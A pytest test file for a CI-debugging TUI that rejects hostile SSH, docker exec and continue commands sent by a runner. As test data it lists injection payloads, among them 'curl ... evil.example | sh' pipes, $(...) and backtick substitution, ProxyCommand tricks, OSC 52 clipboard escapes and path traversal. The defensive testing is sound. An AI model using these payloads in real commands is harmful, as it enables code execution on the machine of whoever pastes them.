"""The SSH connection file is held to the one form the workflow writes: its commands are pasted
into a person's own shell, and the runner that writes the file also runs the package's build.
Anything else is "the runner sent an SSH connection this tool does not trust", with what was
wrong, and nothing of it is printed as a command or copied."""

import asyncio
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from helpers import notifications, until
from hostile_github import REPO, Answer, HostileGitHub, World, connection
from test_ui import text_of

from cibw_debug_tui.core import config
from cibw_debug_tui.core.config import Token
from cibw_debug_tui.core.connection import (
    CLAUDE_LINES,
    UNTRUSTED,
    ConnectionFileError,
    parse_connection,
)
from cibw_debug_tui.core.github import GitHub, GitHubError
from cibw_debug_tui.core.history import History
from cibw_debug_tui.core.session import Session, SessionSpec
from cibw_debug_tui.ui.app import DebugApp
from cibw_debug_tui.ui.backend import Backend

COMMAND = str(Path(sys.executable).parent / "cibw-debug-tui")
TOKEN = "ghp_HOSTILEssh0000000000000000000000000"
GOOD_SSH = "ssh aBcD3fGh1jKlMnOpQrStUvWxY@nyc1.tmate.io"
EVIL = "curl -s https://evil.example/x | sh"

# (the SSH command as sent, words in what the person is told)
HOSTILE_SSH = [
    (f"ssh a@nyc1.tmate.io ; {EVIL}", "shell syntax"),
    ("ssh -oProxyCommand=curl${IFS}evil.example|sh a@nyc1.tmate.io", "shell syntax"),
    ("ssh -J jump.evil.example a@nyc1.tmate.io", "option other than -p"),
    ("ssh a@nyc1.tmate.io -R 2222:localhost:22", "option other than -p"),
    ("ssh $(curl evil.example)@nyc1.tmate.io", "shell syntax"),
    ("ssh `id`@nyc1.tmate.io", "shell syntax"),
    ("ssh a@evil.example", "not a tmate server"),
    ("ssh a@nyc1.tmate.io.evil.example", "not a tmate server"),
    ("ssh a@nyc1.tmate.io\r", "control characters"),
    ("ssh a@nyc1.tmate.io\x1b[2K\r" + EVIL, "control characters"),
    ("ssh a@nyc1.tmate.io\x1b]52;c;Y3VybCBldmlsfHNo\x07", "control characters"),
    ("ssh a@nyc1.tmate.io\x1b[201~" + EVIL, "control characters"),
    ("ssh a@nyc1.tmate.io\u202e", "beyond ASCII"),
    ("[link=https://evil.example]ssh a@nyc1.tmate.io[/link]", "shell syntax"),
    ("ssh a b@nyc1.tmate.io", "one destination"),
    ("ssh a@b@nyc1.tmate.io", "one destination"),
    ("ssh -p 0 a@nyc1.tmate.io", "not a port number"),
    ("ssh -p 70000 a@nyc1.tmate.io", "not a port number"),
    ("ssh a_b@nyc1.tmate.io", "letters and digits"),
    ("sudo ssh a@nyc1.tmate.io", "not an ssh command"),
    ("ssh -p 2200 a@tmate.corp.example", "not a tmate server"),
]


def parsed(**fields):
    return parse_connection(connection(**fields))


@pytest.mark.parametrize(("ssh", "words"), HOSTILE_SSH, ids=[f"ssh{i}" for i in range(21)])
def test_a_hostile_ssh_command_is_not_trusted_and_says_why(ssh, words):
    with pytest.raises(ConnectionFileError) as error:
        parsed(ssh=ssh)
    said = str(error.value)
    assert said.startswith(UNTRUSTED) and words in said, said
    assert "\x1b" not in said and EVIL not in said and "evil.example|" not in said


@pytest.mark.parametrize(
    ("ssh", "hosts", "rebuilt"),
    [
        (GOOD_SSH, (), GOOD_SSH),
        ("ssh aBc@SFO2.TMATE.IO", (), "ssh aBc@sfo2.tmate.io"),
        ("ssh -p2200 tok3n@tmate.corp.example", ("tmate.corp.example",),
         "ssh -p 2200 tok3n@tmate.corp.example"),
        ("ssh -p 22 tok3n@tmate.corp.example", ("tmate.corp.example",),
         "ssh -p 22 tok3n@tmate.corp.example"),
    ],
)  # fmt: skip
def test_a_tmate_ssh_command_is_rebuilt_from_its_parts(ssh, hosts, rebuilt):
    assert parse_connection(connection(ssh=ssh), hosts).ssh == rebuilt


CONTAINER = "cibuildwheel-0123456789ab"
HOSTILE_FIELDS = [
    ({"docker_exec": f"docker start {CONTAINER} >/dev/null && docker exec -it {CONTAINER} "
                     f"bash; {EVIL}"}, "docker exec"),
    ({"docker_exec": f"docker start {CONTAINER} >/dev/null && docker exec -it other bash"},
     "docker exec"),
    ({"docker_exec": f"docker start {CONTAINER} >/dev/null && docker exec -it {CONTAINER} "
                     "sh -c 'curl x'"}, "docker exec"),
    ({"continue_command": f'touch "/home/runner/work/pkg/pkg/continue"; {EVIL}'}, "continue"),
    ({"continue_command": 'touch "$(curl evil.example)/continue"'}, "continue"),
    ({"continue_command": 'touch "/home/runner/../../etc/continue"'}, "continue"),
    ({"continue_command": 'touch "/home/runner/.bashrc"'}, "continue"),
    ({"continue_file": "/tmp/continue"}, "another file"),
    ({"claude": f"claude; {EVIL}"}, "claude"),
    ({"claude": "claude  # Claude Code\x1b]52;c;eA==\x07"}, "claude"),
    ({"rebuild": f"cibw-rebuild && {EVIL}"}, "cibw-rebuild"),
    ({"actor": "octocat\x1b]0;owned\x07"}, "actor"),
]  # fmt: skip


@pytest.mark.parametrize(("fields", "words"), HOSTILE_FIELDS,
                         ids=[f"field{i}" for i in range(len(HOSTILE_FIELDS))])  # fmt: skip
def test_every_command_line_is_held_to_the_form_the_workflow_writes(fields, words):
    with pytest.raises(ConnectionFileError) as error:
        parsed(**fields)
    assert str(error.value).startswith(UNTRUSTED) and words in str(error.value)


def test_the_commands_shown_are_rebuilt_from_checked_parts():
    conn = parse_connection(
        connection(
            docker_exec=f"docker start {CONTAINER} >/dev/null && "
            f"docker exec -it {CONTAINER} linux32 bash",
            continue_file="D:/a/pkg/pkg/continue",
            continue_command='touch "D:/a/pkg/pkg/continue"',
            claude=CLAUDE_LINES[0],
        )
    )
    assert conn.docker_exec == (
        f"docker start {CONTAINER} >/dev/null && docker exec -it {CONTAINER} linux32 bash"
    )
    assert conn.continue_command == 'touch "D:/a/pkg/pkg/continue"'
    assert conn.claude == CLAUDE_LINES[0]
    assert conn.rebuild == (
        "cibw-rebuild  # build cp312-manylinux_x86_64 again, keeping the build folder"
    )


def test_the_workflow_writes_the_claude_lines_the_client_trusts():
    workflow = (Path(__file__).parent.parent / "workflow" / "cibuildwheel-debug.yml").read_text()
    for line in CLAUDE_LINES:
        assert line in workflow


def test_a_refused_session_has_no_commands_whatever_it_sent():
    conn = parsed(status="refused", message="No public SSH keys", ssh=f"ssh a@x.tmate.io; {EVIL}")
    assert not conn.is_open and conn.ssh is None and conn.continue_command is None


@pytest.mark.parametrize(
    ("value", "words"),
    [("tmate.corp", "a list"), (["tmate corp"], "not a host name"), ([3], "not a host name")],
)
def test_tmate_hosts_in_the_config_file_are_host_names(tmp_path, value, words):
    path = tmp_path / "config.yaml"
    path.write_text(json.dumps({"tmate_hosts": value}))
    with pytest.raises(config.ConfigError, match=words):
        config.load_config(path)


def test_tmate_hosts_are_read_from_the_config_file(tmp_path):
    path = tmp_path / "config.yaml"
    path.write_text("tmate_hosts: [Tmate.Corp.Example]\n")
    assert config.tmate_hosts(config.load_config(path)) == ("tmate.corp.example",)


# -- the artifact is read as a stream -------------------------------------------------------------


@pytest.mark.parametrize("declared", [True, False], ids=["content-length", "chunked"])
def test_a_400_mb_connection_artifact_is_refused_while_it_is_read(declared):
    with HostileGitHub() as gh:
        gh.on("GET", rf"/repos/{REPO}/actions/artifacts/9/zip",
              Answer(302, headers={"Location": f"{gh.api_url}/_blob/9"}))  # fmt: skip
        megabyte = b"\0" * (1 << 20)
        headers = {"Content-Length": str(400 << 20)} if declared else {}
        gh.on("GET", "/_blob/9", Answer(chunks=(megabyte for _ in range(400)), headers=headers))

        async def go():
            async with GitHub(gh.api_url, Token(TOKEN, "test"), retries=0) as github:
                await github.artifact_bytes(REPO, 9)

        with pytest.raises(GitHubError, match="unexpectedly large"):
            asyncio.run(go())
        sent = gh.sent_bytes
    assert sent < 64 << 20, f"{sent >> 20} MB were sent before the client hung up"


# -- what a person sees and copies ---------------------------------------------------------------


def hostile_world(gh: HostileGitHub, **extra) -> World:
    return World(
        gh,
        connections={
            "before-build": connection("before-build", ssh=f"ssh a@nyc1.tmate.io ; {EVIL}"),
            "after-failure": connection(
                "after-failure", ssh="ssh a@nyc1.tmate.io\x1b]52;c;Y3VybCBldmlsfHNo\x07"
            ),
        },
        **extra,
    ).install()


def test_the_dashboard_says_it_does_not_trust_the_connection_and_copies_nothing(tmp_path):
    async def go():
        with HostileGitHub() as gh:
            world = hostile_world(gh, polls=1000)
            github = GitHub(gh.api_url, Token(TOKEN, "test"), backoff=0.01)
            spec = SessionSpec(REPO, "ubuntu-latest", "cp312", "x86_64", "always")
            session = Session("s1", spec, gh.api_url, run_id=world.run_id, status="in_progress")
            history = History(tmp_path / "history.yaml")
            history.sessions = [session]
            history.save()
            backend = Backend(
                github=github,
                history=History(tmp_path / "history.yaml").load(),
                download_dir=tmp_path,
                log_dir=tmp_path / "logs",
                repo=REPO,
            )
            app = DebugApp(backend, pace=0.02)
            async with app.run_test(size=(160, 48)) as pilot:
                shown = app.sessions["s1"]
                await until(pilot, lambda: len(shown.connection_errors) == 2)
                state = app.query_one("#ssh-state")
                pane = await until(pilot, lambda: UNTRUSTED in text_of(state) and text_of(state))
                await pilot.press("c")
                await pilot.pause()
                told = [n.message for n in notifications(app)]
                return str(pane), told, app.clipboard, list(app.sessions)

    pane, told, clipboard, sessions = asyncio.run(go())
    assert UNTRUSTED in pane and "\x1b" not in pane
    assert clipboard == ""
    assert any("is not trusted: nothing was copied" in t for t in told), told
    assert sessions == ["s1"]


@pytest.mark.e2e
@pytest.mark.slow
def test_dispatch_watch_prints_no_command_it_does_not_trust(tmp_path):
    with HostileGitHub() as gh:
        hostile_world(gh, polls=2)
        env = {**os.environ, "HOME": str(tmp_path), "GH_TOKEN": TOKEN,
               "CIBW_DEBUG_TUI_CONFIG": str(tmp_path / "c.yaml")}  # fmt: skip
        proc = subprocess.run(
            [COMMAND, "dispatch", "--repo", REPO, "--runner", "ubuntu-latest", "--python",
             "cp312", "--arch", "x86_64", "--debug-mode", "always", "--watch",
             "--api-url", gh.api_url, "--log-dir", str(tmp_path / "logs")],
            capture_output=True, env=env, cwd=tmp_path, timeout=120, check=False,
        )  # fmt: skip
    out = proc.stdout.decode()
    assert proc.returncode == 1, proc.stderr  # the run failed; the watch went to its end
    assert out.count(UNTRUSTED) == 2, out
    assert "shell syntax" in out and "control characters" in out
    assert "curl" not in out and "\x1b" not in out and "\x07" not in out
    assert "SSH session open" not in out
    assert proc.stderr == b""
